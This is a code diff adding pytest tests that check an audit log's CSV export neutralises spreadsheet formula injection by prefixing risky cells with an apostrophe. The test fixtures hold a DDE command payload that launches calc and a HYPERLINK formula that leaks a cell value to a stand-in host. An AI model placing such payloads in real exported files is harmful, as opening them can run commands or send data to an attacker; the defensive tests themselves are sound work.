@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import sys
@@ -9,7 +11,7 @@ from datetime import timedelta
 
 import pytest
 
-from testbed_hub.audit import AuditLog, report, rotate, to_csv
+from testbed_hub.audit import CSV_COLUMNS, AuditLog, report, rotate, to_csv
 from testbed_hub.audit.__main__ import main
 
 from .test_audit_append import T0, fill
@@ -92,6 +94,29 @@ def test_csv_columns_and_cells(log):
         '2025-03-01T10:00:00.000000Z,batch_start,alice@testbed.example,alice,,"[""e4"",""e42""]",{}',
         "",
     ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(start):
+    row = {
+        "time": "2025-03-01T09:00:00.000000Z",
+        "event": "file_read",
+        "identity": start + "cmd|' /C calc'!A0",
+        "user": "alice",
+        "source": None,
+        "object": start + 'HYPERLINK("http://x.example/?"&A1).csv',
+        "details": {"via": "files"},
+    }
+    got = next(csv.DictReader(io.StringIO(to_csv([row]))))
+    assert got["identity"] == "'" + row["identity"]
+    assert got["object"] == "'" + row["object"]
+    assert (got["user"], got["source"], got["details"]) == ("alice", "", '{"via":"files"}')
+
+
+def test_csv_leaves_ordinary_cells_alone():
+    row = dict.fromkeys(CSV_COLUMNS, "a=b") | {"object": 7, "details": {"n": -1}}
+    got = next(csv.DictReader(io.StringIO(to_csv([row]))))
+    assert got == dict.fromkeys(CSV_COLUMNS, "a=b") | {"object": "7", "details": '{"n":-1}'}
 
 
 def cli(*args: str) -> subprocess.CompletedProcess[str]:
